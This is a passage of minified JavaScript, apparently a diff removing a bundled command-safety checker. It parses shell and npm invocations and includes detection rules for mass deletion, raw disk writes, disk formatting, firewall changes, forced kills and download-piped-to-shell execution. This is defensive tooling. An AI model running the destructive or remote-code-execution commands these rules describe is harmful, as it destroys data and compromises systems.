-"file")return xe(t.at.replace(/#.*$|::.*$/s,""))||void 0}function hT(t,e){const n=jh(t),s=n===void 0?void 0:Ve(e,n);return s?.
-kind==="inside"&&s.entry.kind==="directory"}function pT(t,e,n){const s=jh(t);if(s===void 0)return!1;const[r,i]=[e,n].map(
-a=>Ve(a,s));return!(r?.kind==="inside"&&lt(r.entry.kind))||i?.kind!=="inside"?!1:r.entry.oid!==i.entry.oid||r.entry.size!==
-i.entry.size}function Mh(t,e){return t.name===e.name&&t.source.kind===e.source.kind&&Hh(t)===Hh(e)}function mT({integrity:t,
-source:e},{integrity:n}){if(t===void 0||e.kind==="file"&&n===void 0)return!1;if(n===void 0)return!0;const s=o=>o.split("\
--",1)[0],r=n.split(/\s+/),i=t.split(/\s+/).filter(o=>r.some(a=>s(a)===s(o)));return i.length>0&&!i.some(o=>r.includes(o))}
-async function gT(t){const{name:e,tree:n,before:s}=t;return(await Gh(n,e)).flatMap(r=>{if(r.source.kind==="registry"&&r.
-name===e||s.some(a=>Mh(a,r)))return[];const o=Ph(r,t);return o===void 0?[]:[{name:e,path:"package.json",...o}]})}async function Gh(t,e){
-const n=gt(await ps(t,"package.json")),s=["dependencies","devDependencies","optionalDependencies"].map(u=>Yt(gt(n[u]),e)),
-{overrides:r,resolutions:i,pnpm:o}=n,a=[r,i,gt(o).overrides].flatMap(u=>Object.entries(gt(u)).flatMap(([l,d])=>yT(l,e)?[
-typeof d=="string"?d:Yt(gt(d),".")]:[]));return[...new Set([...s,...a])].filter(u=>u!==""&&!u.startsWith("workspace:")).
-map(u=>CT(u,e))}function CT(t,e){const n=dT(t);return n!==void 0&&n!==e?{name:n,version:"",source:{kind:"registry"}}:{name:e,
-version:"",source:Lh(t,e,"")}}function yT(t,e){const n=t.split(/[>]|\*\*\//).at(-1)??"";return n===e||n.startsWith(`${e}\
-@`)||n.endsWith(`/${e}`)}function Hh({source:{kind:t,at:e=""},version:n}){return t==="tarball"&&n!==""?e.replaceAll(n,"*"):
-t==="registry"&&pi.includes(e)?"":e}const zh="registry.npmjs.org",pi=[zh,"registry.yarnpkg.com"];function wT({at:t},e){return(t===
-void 0||pi.includes(t)?e:void 0)??t??zh}const bT=Vt(async t=>{const e=await Uh(t),n=Object.entries(e).filter(([i])=>i===
-"registry"||i.endsWith(":registry")).map(([,i])=>Jh(String(i))),s=((await Ut(t)).npm?.all??[]).flatMap(({source:i})=>i.kind===
-"registry"&&i.at?[i.at]:[]),r=e.registry===void 0||s.some(i=>pi.includes(i));return new Set([...n,...s,...r?pi:[]])});async function _T(t,e){
-const n=await Uh(t),[s]=e.startsWith("@")?e.split("/"):[],r=s&&n[`${s}:registry`]||n.registry;return r===void 0?void 0:Jh(
-String(r))}async function Uh(t){const e=await hs({tree:t,directory:""});return"settings"in e?e.settings:{}}function Jh(t){
-return URL.canParse(t)?new URL(t).host:t}const ET=new Set(["--env-file","--env-file-if-exists","--prefix"]);function Zh(t,e){
-const{passthrough:n}=t,s=[],r=(o,a)=>{const c=ln(o,a,e);c!==void 0&&s.push(c)};for(const o of[t,...li(t)]){for(const{name:c,
-value:u,span:l}of o.flags)u!==void 0&&(ET.has(c)&&r(u,l),c==="--workspace"&&/^\.{1,2}(?:[\\/]|$)|^[\\/]/.test(u)&&r(u,l));
-for(const{as:c,path:u,span:l}of o.subcommand==="exec"&&o.tool?.files||[]){const d=c==="tests"?Za(u,l,e):void 0;d!==void 0&&
-s.push(d)}if(o.program!=="node"&&o.starts!=="file")continue;const a=o.program==="node"&&ii(o)?Za:ln;for(const{text:c,span:u}of o.
-operands){const l=c===""||c==="-"?void 0:a(c,u,e);l!==void 0&&s.push(l)}}const i=n.find(({text:o})=>kT.test(o));return i!==
-void 0&&s.push(be("absolute-path",i.span,{path:i.text})),s}const kT=/^(?:-[^=]*=)?(?:\/(?:home|Users|root|tmp|var|opt|mnt|Volumes|private)\/|[A-Za-z]:[\\/](?!\/))/;
-function Za(t,e,n){if(!Ka(t))return ln(t,e,n);const s=Vs(t);if(s===void 0)return be("glob-unclear",e,{pattern:t,reason:"\
-too_many"});for(const r of[t,...s]){const i=ln(r,e,n);if(i!==void 0)return{...i,args:{...i.args,path:t}}}}function ln(t,e,n){
-if(/^[A-Za-z][A-Za-z0-9+.-]+:/.test(t)&&/^(?:data|node|file|[a-z]+:\/)/i.test(t))return be("target-outside",e,{path:t,reason:"\
-address"});const s=/^(?:[\\/]|[A-Za-z]:)/.test(t),r=s?void 0:xe(n===""?t:`${n}/${t}`);if(r===void 0)return be("target-ou\
-tside",e,{path:t,reason:s?"absolute":"above"});if(vt(r,".git",{ignoreCase:!0}))return be("target-outside",e,{path:t,reason:"\
-git"})}function Kh(t){return t.length>200||t.split("**").length>2?!1:t==="."?!0:t.split("/").every(e=>/^(?!\.{1,2}$)[\w@.*-]+$/.
-test(e))}function mi(t,e,n={}){return gi(t.split("/"),e.split("/"),n)}function gi(t,e,n){const[s,...r]=t,[i,...o]=e;return s===
-void 0?n.partial||e.every(a=>a==="**"):i===void 0?!1:i!=="**"?Wh(s,i,n)&&gi(r,o,n):gi(t,o,n)?!0:Wh(s,"*",n)&&gi(r,e,n)}function Wh(t,e,{
-dot:n=!1}){return t.startsWith(".")&&!e.startsWith(".")&&!n?!1:Ix(t,e)}function Ka(t){return/[*?[{]/.test(t)}function vT(t){
-return t.replace(/[^/]*[*?[{].*$/s,"")}const DT=200,xT=1e3;function Vs(t){if(t.length>xT)return;let e=[t.replace(/\[(.)(?:-\1)?\]/gs,
-"$1")];const n=[];for(;e.length>0;){const s=[];for(const r of e){const i=/\{([^{},]*(?:,[^{},]*)+)\}/.exec(r);if(i===null)
-n.push(r);else{const{0:o,1:a="",index:c}=i,[u,l]=[r.slice(0,c),r.slice(c+o.length)];s.push(...a.split(",").map(d=>`${u}${d}${l}`))}}
-if(s.length+n.length>DT)return;e=s}return n}const qh=zs(async(t,e)=>{const n=(await zt(t,e))?.workspaces??[],s=n.map(l=>Vs(
-l)?.map(d=>d.replace(/^\.?\/+/,"").replace(/\/$/,""))),r=l=>l?.every(Kh)===!0,i=s.findIndex(l=>!r(l));if(i>=0)return{unclear:n[i]??
-""};const o=(l,d)=>B=>B?.some(f=>mi(l,f,d))===!0,a=[];for(const{path:l,kind:d}of s.length===0?[]:t.files()){const B=Vh(e,
-l);if(B===void 0||(ie.posix.basename(l)==="package.json"&&a.push(ie.posix.dirname(B)),d!=="symlink"||!s.some(o(B,{partial:!0}))))
-continue;const f=Ve(t,l);if(f.kind==="outside"||f.kind==="inside"&&f.entry.kind==="directory")return{unclear:l}}const c=a.
-filter(l=>s.some(o(l))&&!l.split("/").includes("node_modules")).sort((l,d)=>l.localeCompare(d,"en")),u=s.flatMap(l=>c.filter(
-d=>o(d,{partial:!0})(l)));return OT(t,e,[...new Set(u)])});async function OT(t,e,n){const s=[],r=new Set;for(const i of n){
-const o=ie.posix.join(e,i).replace(/^\.$/,""),a=await qs(t,o);if(a===void 0)continue;if(a===Xt)return{broken:`${o}/packa\
-ge.json`};const c=a.name||AT(o);if(r.has(c))return{broken:a.path};r.add(c),s.push({directory:o,name:c})}return s}function AT(t){
-const e=ie.posix.basename(ie.posix.dirname(t)),n=ie.posix.basename(t);return e.startsWith("@")?`${e}/${n}`:n}function Vh(t,e){
-return t===""?e:e.startsWith(`${t}/`)?e.slice(t.length+1):void 0}function ST(t,e,{directory:n,project:s}){const r=Vh(s,`${n}\
-/`)!==void 0,i=ie.posix.resolve("/",r?n:s,e),o=u=>ie.posix.join("/",u.directory),a=u=>ie.posix.dirname(o(u))===i;if(!(!(n===
-s&&!/^\.\/|\/\.[^/]*$/.test(e))&&t.some(a)))return t.filter(u=>u.name===e||o(u)===i||a(u))}const Yh={script:"",passes:!1};
-async function TT(t,e,n){const{workspace:s,workspaces:r,includeRoot:i}=t,o=await IT(t,e,n);if("problems"in o)return o;const{
-directory:a,implied:c}=o;if(r===!1&&s.length>0)return ue("flag-value",n,{program:"npm",flag:"--no-workspaces",fault:"npm\
- refuses it beside `--workspace`"});const u={project:a,directories:[a],selected:!1,missing:[]};if(r!==!0&&s.length===0&&
-c===void 0)return u;const l=await zt(e.tree,a);if(l===void 0)return u;const d=await Xh(a,e,n);if("problems"in d)return d;
-const B=new Map;i&&B.set(l.name,a);const f=[],h=s.length===0;for(const m of d)h&&(c===void 0||m.directory===c)&&B.set(m.
-name,m.directory);for(const m of s){const g={directory:e.directory,project:a},C=ST(d,m,g);if(C===void 0)return ue("targe\
-t-outside",n,{path:m,reason:"workspace"});C.length===0&&f.push(be("npm-script-missing",n,{...Yh,workspace:m}));for(const b of C)
-B.set(b.name,b.directory)}return B.size===0?f.length>0?{targets:[],problems:f}:ue("npm-script-missing",n,{...Yh,workspace:""}):
-{project:a,directories:[...B.values()],selected:!0,missing:f}}async function IT({prefix:t,workspaces:e},n,s){if(t!==void 0)
-return $T(t,n,s);const{tree:r,directory:i}=n,o=Ys(i),a=o.find(c=>Qh(r,c)||RT(r,c));if(a===void 0||!Qh(r,a))return ue("pa\
-ckage-json-missing",s,{directory:i});if(e===!1)return{directory:a};for(const c of o.slice(o.indexOf(a)+1)){const u=await Xh(
-c,n,s);if("problems"in u)return u;if(u.some(l=>l.directory===a))return{directory:c,implied:a}}return{directory:a}}async function Xh(t,{
-tree:e},n){const s=await qh(e,t);return"unclear"in s?ue("target-outside",n,{path:s.unclear,reason:"workspace"}):"broken"in
-s?ue("package-json-invalid",n,{path:s.broken}):s}function $T(t,e,n){if(xe(ct(e,t))===void 0)return $e;const s=La(Ve(e.tree,
-ct(e,t)),t,n);return"problems"in s?s:{directory:s.path}}function Ys(t){const e=t.split("/"),n=e.map((s,r)=>e.slice(0,e.length-
-r).join("/"));return t===""?n:[...n,""]}function Qh(t,e){return Ve(t,ie.posix.join(e,"package.json")).kind!=="missing"}function RT(t,e){
-return Ve(t,ie.posix.join(e,"node_modules")).kind==="inside"}const NT=new Set(["--usage","--version","--versions"]);function Wa({
-flags:t}){const e=t.findLast(({name:r})=>r==="--prefix")?.value,n=Ci(t,"--workspaces"),s=Ci(t,"--ignore-scripts");return{
-informs:t.some(({name:r})=>NT.has(r)),...e===void 0?{}:{prefix:e},...n===void 0?{}:{workspaces:n},workspace:t.flatMap(({
-name:r,value:i})=>r==="--workspace"&&i?[i]:[]),includeRoot:Ci(t,"--include-workspace-root")===!0,...s===void 0?{}:{ignoreScripts:s},
-ifPresent:Ci(t,"--if-present")===!0}}function Ci(t,e){const n=t.findLast(s=>s.name===e);return n&&n.negated!==!0}function ms(t){
-return/^node_modules\/((?:@[^/]+\/)?[^/.@][^/]*)\//.exec(t)?.[1]}async function Xs(t,e,n){const{tree:s,base:r=s}=Xa(t),{
-name:i,path:o}=e,a=await FT(s,r,i),c=a===void 0?await jT(s,e):void 0,u=l=>be("dependency-unverified",n,{name:i,path:o,...l});
-return[...a===void 0?[]:[u({fault:a})],...c===void 0?[]:[u({fault:"stale",differs:c})],...await qa(t,i,n)]}async function qa(t,e,n){
-const{tree:s,base:r=s}=Xa(t);return[...(await LT(s,r)).map(o=>be("dependency-not-compared",n,{name:e,path:o})),...await BT(
-s,r,e,n)]}function Va(t){return Dn(t,"dependency-unverified")?t.args.fault!=="stale":Dn(t,"target-missing")&&t.args.untracked===
-!0}async function FT(t,e,n){const[s,r]=await Promise.all([Ut(t),Ut(e)]),i=({npm:u})=>u?.packages.has(n)===!0,o=u=>i(u)||
-u.unread.length>0;return i(r)&&!i(s)&&t.stat(r.npm?.path??"")||o(r)&&!o(s)?"removed":(await zt(t,""))?.dependencies.has(
-n)?o(s)||(s.npm??r.npm)===void 0?void 0:"unlocked":"undeclared"}async function LT(t,e){const[{npm:n,unread:s},r]=await Promise.
-all([Ut(t),Ut(e)]);if(!n&&s.length===0&&!r.npm&&r.unread.length===0)return[""];const i=await Promise.all(s.map(o=>LS(t,e,
-o)));return s.filter((o,a)=>i[a])}async function PT(t,e,n){const{npm:s,unread:r}=await Ut(t),i=s?.packages,o=r.length>0||
-i===void 0||i.has(e);return n.has(e)&&o?e:[...n].find(a=>Object.hasOwn(i?.get(a)?.bin??{},e))}async function jT(t,{name:e,
-binary:n}){const s=`node_modules/${e}`,r=(await Ut(t)).npm?.packages.get(e);if(r===void 0||t.stat(s)===void 0)return;const i=await ps(
-t,`${s}/package.json`),o=gt(i),a=Yt(o,"name")||e,c=Yt(o,"version"),u=(m,g,C)=>`the installed package has the ${m} \`${g||
-"nothing"}\`, but the lockfile has \`${C}\``;if(i!==void 0&&a!==r.name)return u("name",a,r.name);if(i!==void 0&&!["",c].
-includes(r.version))return u("version",c,r.version);const l=r.bin??(o.bin===void 0?void 0:hi(o.bin,a)??{});if(n===void 0||
-l===void 0)return;const{name:d,file:B}=n,f=Object.entries(l).flatMap(([m,g])=>d===void 0||d===m?[ie.posix.normalize(g)]:
-[]),h=d===void 0?"binary":`binary ${d}`;return f.includes(B)?void 0:u(h,B,f[0]??"nothing")}function Ya({tree:t,base:e=t,
-directory:n}){const s=r=>i=>di.some(o=>i.stat(ie.posix.join(r,o))!==void 0);return Ys(n).find(r=>[t,e].some(s(r)))??""}function Xa(t,e=Ya(
-t)){if(e==="")return t;const{tree:n,base:s,directory:r,changed:i}=t,o=`${e}/`;return{...t,tree:jn(n,e),...s&&{base:jn(s,
-e)},directory:r.slice(o.length),changed:new Set([...i].flatMap(a=>a.startsWith(o)?a.slice(o.length):[]))}}async function ep(t,e){
-const n=Ya(t),{targets:s,problems:r}=await e(Xa(t,n));return{targets:s.map(i=>i.path===void 0?i:{...i,path:ie.posix.join(
-n,i.path)}),problems:r}}const MT=new Set(["","js","mjs","cjs","ts","mts","cts"]);async function tp(t,e,n){const{tree:s}=t,
-r=ln(e,n,t.directory);if(r!==void 0)return{targets:[],problems:[r]};if(e.includes("\\"))return ue("target-not-a-file",n,
-{path:e,reason:"backslash"});const i=xe(ct(t,e))??"",o=Ya(t);if(o!==""&&vt(i,ie.posix.join(o,"node_modules")))return ep(
-t,u=>tp(u,e,n));const a=ip(s,ec(i));return a===void 0?HT(t,e,i,n):a.kind!=="inside"||a.entry.kind!=="directory"?np(t,{path:e,
-wanted:i,found:a},n):await op(t,{path:e,wanted:i},n,u=>np(t,u,n))??ue("target-not-a-file",n,{path:e,reason:"directory"})}
-async function Qa(t,{path:e,wanted:n,found:s},r){const i=ja(s,e,r);if("problems"in i)return i;const o=await GT(t,i,e,r);
-if(o.some(Va))return{targets:[],problems:o};const a=Ga(t,{name:e,path:i.path,wanted:n},r);return{...a,problems:[...o,...a.
-problems]}}async function np(t,e,n){const{path:s,wanted:r}=e,i=ja(e.found,s,n);if("problems"in i)return i;const o=/\.([^./]*)$/.
-exec(i.path.replace(/.*\//,""))?.[1]??"";if(!MT.has(o))return ue("target-extension",n,{program:"node",path:s,extension:o});
-const a=await Qa(t,e,n);if(a.targets.length===0)return a;const c=ms(i.path);return c&&!vt(r,"node_modules")&&!r.includes(
-`node_modules/${c}`)?ue("dependency-unverified",n,{name:c,path:s,fault:"linked"}):i.tracked&&await UT(t.tree,i)?Se([a,ue(
-"target-writes",n,{path:i.path})]):a}async function GT(t,{path:e,tracked:n,built:s},r,i){const o=ms(e);return o===void 0?
-(n||s)&&!vt(e,"node_modules")?[]:[be("target-missing",i,{path:r,untracked:!0})]:n?[be("dependency-unverified",i,{name:o,
-path:r,fault:"committed"})]:await Xs(t,{name:o,path:r},i)}async function HT(t,e,n,s){const r=ms(n);if(r===void 0&&t.tree.
-isPending?.(n))return ue("target-not-judged",s,{path:e});if(r===void 0||t.tree.stat("node_modules")!==void 0)return Pa(t.
-tree,n,e,s);const i=await Xs(t,{name:r,path:e},s);return i.some(Va)?{targets:[],problems:i}:Se([ue("not-installed",s,{name:r}),
-{targets:[],problems:i}])}async function sp(t,e,n,s){const r=Za(e,n,t.directory);if(r!==void 0)return{targets:[],problems:[
-r]};const o=(Ka(e)?(Vs(e)??[]).map(vT):[e]).map(u=>Ve(t.tree,ct(t,u)));if(o.some(({kind:u})=>u==="outside"))return ue("t\
-arget-outside",n,{path:e,reason:"symlink"});const[a]=o,c=a?.kind==="inside"&&a.entry.kind==="directory"&&a.entry.tracked;
-return Ka(e)||a===void 0||c?$e:s({path:e,wanted:xe(ct(t,e))??e,found:a})}const rp=256*1024,zT=/\b(?:(?:appendFile|copyFile|rename|rm|rmdir|symlink|truncate|unlink|writeFile)Sync|appendFile|copyFile|createWriteStream|writeFile)\s*\(/;
-async function UT(t,e){if((e.size??0)>rp)return!1;const n=(await t.read(e.path)).toString("latin1");return zT.test(n)}const JT=[
-"",".js",".json",".node"];function ec(t){return t===""?[""]:JT.map(e=>t+e)}function ip(t,e){const n=e.map(s=>Ve(t,s)).filter(
-s=>s.kind!=="missing");return n.find(s=>s.kind!=="inside"||lt(s.entry.kind))??n[0]}async function op({tree:t,changed:e},{
-path:n,wanted:s},r,i){const o=ie.posix.join(s,"package.json"),a=await ps(t,o);if(a===Xt)return ue("package-json-invalid",
-r,{path:o});const c=Yt(gt(a),"main"),u=c.startsWith("/")?void 0:xe(ie.posix.join(s,c)),l=h=>ec(ie.posix.join(h,"index")).
-slice(1),d=c===""||!u?[]:[...ec(u),...l(u)],B=u===void 0?{kind:"outside",path:c}:ZT(t,[...d,...l(s)]);if(B===void 0)return;
-const f=await i({path:n,wanted:s,found:B});return e.has(o)?Se([f,ue("target-changed",r,{path:o})]):f}function ZT(t,e){return e.
-map(n=>Ve(t,n)).find(n=>n.kind==="inside"?lt(n.entry.kind):n.kind!=="missing")}async function KT(t,e){const{flags:n,operands:s}=t,
-r=ii(t);if(WT(t,r))return $e;const i=[];for(const c of n)i.push(await ap(c,e));for(const{text:c,span:u}of s){if(c===""||
-c.startsWith("-"))continue;const l=()=>tp(e,c,u);i.push(r?await sp(e,c,u,l):await l())}const{targets:o,problems:a}=Se(i);
-return n.some(({name:c})=>c==="--check")?{targets:o.map(c=>({...c,parsed:!0})),problems:a}:{targets:o,problems:a}}function WT({
-operands:t},e){const n=t[0]?.text;return n==="inspect"||n==="debug"&&!e}const qT=new Set(["--import","--require","--expe\
-rimental-loader"]);async function ap(t,e){const{name:n,value:s="",span:r}=t;return n==="--env-file"||n==="--env-file-if-\
-exists"?XT(e,s,r):n==="--test-reporter-destination"?VT(e,s,r):!qT.has(n)||!/^[@a-z]/i.test(s)?$e:cp(e,s,r)}function VT(t,e,n){
-if(/^std(?:out|err)$/.test(e))return $e;const s=ln(e,n,t.directory);if(s!==void 0)return{targets:[],problems:[s]};const r=Ve(
-t.tree,xe(ct(t,e))??"");return r.kind==="outside"?ue("target-outside",n,{path:e,reason:"symlink"}):r.kind==="inside"&&r.
-entry.tracked?ue("writes-files",n,{program:"node",flag:e}):$e}async function cp(t,e,n){const s=/^(?:@[^/]+\/)?[^/]+/.exec(
-e)?.[0]??e;return{targets:[],problems:await Xs(t,{name:s,path:e},n)}}const YT=/(?<!\w)([A-Za-z_]\w*)\s*=/g;async function XT(t,e,n){
-if(ln(e,n,t.directory)!==void 0)return $e;const s=Ve(t.tree,ct(t,e));if(s.kind==="missing"&&t.tree.isPending?.(s.path))return ue(
-"target-not-judged",n,{path:e});const r=ja(s,e,n);if("problems"in r)return r;if(!r.tracked&&!r.built)return ue("target-m\
-issing",n,{path:e,untracked:!0});if((r.size??0)>rp)return ue("environment-file-unsafe",n,{path:e,names:[]});const o=[...(await t.
-tree.read(r.path)).toString("utf8").matchAll(YT)].map(([,c=""])=>c).filter(c=>jf(c.toUpperCase())&&c.toUpperCase()!=="NO\
-DE_ENV"),a=[...new Set(o)].slice(0,10);return a.length===0?$e:ue("environment-file-unsafe",n,{path:e,names:a})}const QT=128*
-1024,e1=16;function Jt(t,e){return t.length>QT?[]:new i1(t,e).list("",0)}function Qt(t){return t.flatMap(e=>[e,...Qt(e.inside)])}
-const up=/^([A-Za-z_]\w*)=(.*)$/s;function tc(t){const{words:e,assignments:n}=t,s=e.findIndex(({text:a,quoted:c})=>c||!Qx(
-a));if(s<1)return t;const r=e.slice(s),i=r.findIndex(({text:a})=>!up.test(a)),o=i<0?r:r.slice(0,i);return{...t,words:r.slice(
-o.length),assignments:[...n,...o.map(t1)]}}function t1({text:t,span:e}){const[,n="",s=""]=up.exec(t)??[];return{name:n,value:s,
-span:e}}function yi({problems:t,substituted:e},{span:n}){const s=r=>r.start<n.end&&r.end>n.start;return e.some(s)||t.some(
-r=>n1.has(r.rule)&&s(r.span))}const n1=new Set(["arithmetic-expansion","command-substitution","dollar-quote","variable-e\
-xpansion"]),s1=/\\.?|'[^']*'?|[$<>]\(|[<>][<>&|-]{0,2}|&>[<>&|-]?|[;&|\r\n]+|(?<!\S)#[^\n]*|[^\\'"`$()<>&;|\r\n#]+|./sy,
-r1=/\\.?|\$\(|[^\\`$"]+|./sy;class i1{#e;#t;#s=0;constructor(e,n){this.#e=e,this.#t=n}list(e,n){const s=[];let r=this.#i(),
-i=!1;const o=(a,c="")=>{const u=this.#n(r,a,c),{words:l,assignments:d,redirections:B,inside:f}=u,h=l.length+d.length+B.length+
-f.length===0,m=s.at(-1);h?m&&(s[s.length-1]={...m,separator:m.separator+c}):s.push(u);const g=/^\|&?$/.test(c)?u:void 0;
-r=this.#i(h?r.pipedFrom:g)};for(;this.#s<this.#e.length;){const a=this.#s,c=this.#r(i?r1:s1),u=this.#s;if(c==='"')i=!i;else{
-if(c===e&&(!i||e==="`"))return o(a),s;if(c==="$("||c==="`"||!i&&/^[<>]?\($/.test(c)){if(n===e1){o(a);continue}const l=this.#e.
-slice(r.start,a),d=c==="("?eO(l)?"subshell":"definition":"substitution",B=this.list(c==="`"?"`":")",n+1);r.inside.push(...B),
-r.gaps.push({kind:d,start:a,end:this.#s}),d==="subshell"&&(r.subshell=B)}else!i&&/^(?:[;&|\r\n]+|\))$/.test(c)?o(a,c):!i&&
-c.startsWith("#")&&/^\s?$/.test(this.#e.charAt(a-1))?r.gaps.push({kind:"comment",start:a,end:u}):!i&&/^(?:[<>]|&>)/.test(
-c)&&r.gaps.push({kind:"operator",start:a,end:u})}}return o(this.#e.length),s}#i(e){return{start:this.#s,gaps:[],inside:[],
-pipedFrom:e}}#r(e){e.lastIndex=this.#s;const[n=""]=e.exec(this.#e)??[];return this.#s+=n.length,n}#n(e,n,s){const{start:r,
-gaps:i,inside:o,pipedFrom:a,subshell:c}=e;let u="",l=r;for(const y of i){const D=y.kind==="comment"||y.kind==="operator"?
-" ":"_";u+=this.#e.slice(l,y.start)+D.repeat(y.end-y.start),l=y.end}u+=this.#e.slice(l,n);const d=un(u,this.#t),B=y=>({...y,
-span:{start:y.span.start+r,end:y.span.end+r}}),f=d.words.map(B),h=new Set;let m=0;const C=i.filter(({kind:y})=>y==="oper\
-ator").map(({start:y,end:D})=>{for(;m<f.length&&(f[m]?.span.start??D)<D;)m+=1;const O=f[m],v=f[m-1];return v?.span.end===
-y&&/^\d+$/.test(v.text)&&h.add(v),O&&h.add(O),{operator:this.#e.slice(y,D),...O&&{target:O}}}),b=[...d.assignments,...d.
-refused].map(B);return{words:f.filter(y=>!h.has(y)),assignments:b.sort((y,D)=>y.span.start-D.span.start),redirections:C,
-problems:d.problems.map(B),span:{start:r,end:n},separator:s,inside:o,substituted:i.filter(({kind:y})=>y==="substitution"),
-...a&&{pipedFrom:a},...c&&{subshell:c},...i.some(({kind:y})=>y==="definition")&&{defines:!0}}}}const o1=/^-(?:exec|ok)(?:dir)?$/;
-function Qs(t){let e=t;for(;;){const[n,s]=e,r=Zs(n?.text??"");if(r==="find"){const o=e.findIndex(({text:a})=>o1.test(a));
-return o<0?e:Qs(e.slice(o+1))}if(at(r)?.kind!=="wrapper"||r==="command"&&/^-[vV]/.test(s?.text??""))return e;const i=e.findIndex(
-(o,a)=>a>0&&a1(o,e));if(i<0)return e;e=e.slice(i)}}function a1({text:t},e){return e.slice(1).some(n=>at(n.text))?at(t)!==
-void 0:!/^-|^\w+=|^\d+[smhd]?$/.test(t)}function wi(t){const[e,...n]=t,s=e&&at(e.text);if(s?.text===void 0)return;if(s.text===
-"words")return bi(n);const r=s.text,i=n.findIndex(({text:a})=>r.test(a)),o=n[i];if(o!==void 0){if(s.name==="cmd"){const a=o.
-text.slice(2);return bi(a===""?n.slice(i+1):[{...o,text:a},...n.slice(i+1)])}return/^[-/]e/i.test(o.text)&&lp(s)?c1(n[i+
-1]):lp(s)?bi(n.slice(i+1)):bi(n.slice(i+1,i+2))}}function lp({name:t}){return t==="pwsh"||t==="powershell"}function bi(t){
-return t.length===0?void 0:{text:t.map(({text:e})=>e).join(" "),words:t}}function c1(t){return t&&{text:Buffer.from(t.text,
-"base64").toString("utf16le"),words:[t]}}const dp=/^\/dev\/(?:sd|hd|vd|xvd|nvme|disk|mmcblk|mapper\/|loop)/,u1=(t,e,n)=>t.
-some(s=>/^-[A-Za-z]+$/.test(s)&&[...s.slice(1)].some(r=>e.includes(r))||s.length>3&&n.startsWith(s.toLowerCase())),l1=/^(?:\/+(?:[\w.-]*\/?)?\*?|\*|\.{1,2}\/?\*?|~[^/]*(?:\/\*?)?|\$\{?HOME\}?(?:\/\*?)?)$/,
-d1=t=>t.some((e,n)=>{const s=/^(?:-s|--signal)$/.test(e)?t[n+1]:/^(?:-s|--signal=|-)(.+)$/.exec(e)?.[1];return s!==void 0&&
-/^(?:9|(?:sig)?kill)$/i.test(s)}),Bp=(t,e,n)=>(t==="systemctl"||t==="loginctl")&&e.some(s=>n.test(s)),B1=[{name:"mass_de\
-letion",matches:({program:t,args:e})=>t==="rm"&&u1(e,"rR","--recursive")&&e.some(n=>!n.startsWith("-")&&l1.test(n))},{name:"\
-raw_disk_write",matches:({program:t,args:e})=>t==="dd"&&e.some(n=>n.startsWith("if=")||/^of=\/dev\//.test(n))},{name:"fi\
-lesystem_format",matches:({program:t})=>/^(?:mkfs(?:\..+)?|mke2fs)$/.test(t)},{name:"direct_disk_write",matches:({program:t,
-args:e})=>t==="tee"&&e.some(n=>dp.test(n))},{name:"world_writable",matches:({program:t,args:e})=>t==="chmod"&&e.some(n=>/^[0-7]{2,4}[2367]$/.
-test(n)||/^[ug]*[ao][uoga]*[+=][rxst]*w/.test(n))},{name:"privilege_escalation",matches:({program:t,args:e})=>t==="chown"&&
-e.some(n=>/^\+?(?:root|0+)(?::.*)?$|^:\+?(?:root|0+)$/s.test(n))},{name:"firewall_manipulation",matches:({program:t})=>/^(?:ip6?tables(?:-.+)?|nft|ufw|firewall-cmd)$/.
-test(t)},{name:"system_shutdown",matches:({program:t,args:e})=>/^(?:shutdown|poweroff|halt)$/.test(t)||/^(?:init|telinit)$/.
-test(t)&&e[0]==="0"||Bp(t,e,/^(?:poweroff|halt)$/)},{name:"system_reboot",matches:({program:t,args:e})=>t==="reboot"||/^(?:init|telinit)$/.
-test(t)&&e[0]==="6"||Bp(t,e,/^(?:reboot|kexec)$/)},{name:"force_kill",matches:({program:t,args:e})=>/^(?:kill|pkill|killall)$/.
-test(t)&&d1(e)}],fp=8,f1=4;function gs(t,e=0){const n=new m1;return Qt(t).flatMap(s=>h1(s,n,e))}function h1(t,e,n){const s=[],
-{words:r}=tc(t);for(const{operator:c,target:u}of t.redirections)if(c.includes(">")&&u&&dp.test(u.text)){const l=`> ${u.text}`;
-s.push({name:"direct_disk_write",pattern:l,words:[u]})}const i=hp(r),o=e.runBy(t,i);if(o!==void 0){const c=`${o} | ${r[0]?.
-text??""}`;s.push({name:"remote_code_execution",pattern:c,words:r})}const a=new Set;for(const c of i){const u=B1.find(({
-matches:f})=>f(c))?.name;if(u!==void 0){const f=c.words.map(({text:h})=>h).join(" ");s.push({name:u,pattern:f,words:c.words})}
-const d=at(c.program)?.kind==="shell"?wi(c.words)?.text:void 0;if(d===void 0||a.has(d)||n===f1)continue;a.add(d);const B=gs(
-Jt(d),n+1);s.push(...B.map(f=>({...f,words:c.words}))),p1.test(d)&&s.push({name:"remote_code_execution",pattern:d,words:c.
-words})}return s}function hp(t){const e=nc(t,0);if(e===void 0)return[];const n=[e];if(at(e.program)?.kind==="wrapper")for(let s=1;s<=
-Math.min(t.length-1,fp);s+=1){const r=nc(t,s);r!==void 0&&!/^-|=/.test(r.program)&&n.push(r)}if(e.program==="find")for(const[
-s,{text:r}]of t.entries()){const i=/^-(?:exec|ok)(?:dir)?$/.test(r)?nc(t,s+1):void 0;if(i!==void 0&&n.push(i),n.length>fp)
-break}return n}function nc(t,e){const n=t[e];if(n===void 0)return;const s=t.slice(e);return{program:Zs(n.text),args:s.slice(
-1).map(({text:r})=>r),words:s}}const p1=/\bdownload(?:string|data)\b/i;class m1{#e=new Map;#t=new Map;runBy(e,n){const s=(e.
-pipedFrom&&this.#e.get(e.pipedFrom))??g1(e.inside),r=n.find(({program:o})=>pp(o));this.#e.set(e,s??r?.program);const i=n.
-flatMap(({program:o,args:a,words:c})=>(ti(o)?a:c.slice(0,1).map(({text:u})=>u)).flatMap(u=>this.#t.get(sc(u))??[]))[0];return r&&
-this.#s(r,e),n.some(({program:o})=>ti(o))?s??i:i}#s({program:e,args:n},{redirections:s}){const r=s.flatMap(({target:i})=>i?.
-text??[]);for(const i of[...n,...r])!i.startsWith("-")&&sc(i)!==""&&this.#t.set(sc(i),e)}}function sc(t){return t.replace(
-/[?#].*$/s,"").replace(/^.*[\\/]/s,"")}function g1(t){return Qt(t).flatMap(({words:e})=>hp(e)).find(({program:e})=>pp(e))?.
-program}function pp(t){return at(t)?.kind==="downloader"}const rc={mass_deletion:"deletes whole directories",raw_disk_write:"\
-overwrites files or disks",filesystem_format:"formats a disk",direct_disk_write:"overwrites a disk",world_writable:"lets\
- every user change files",privilege_escalation:"gives files to the superuser",firewall_manipulation:"changes the firewal\
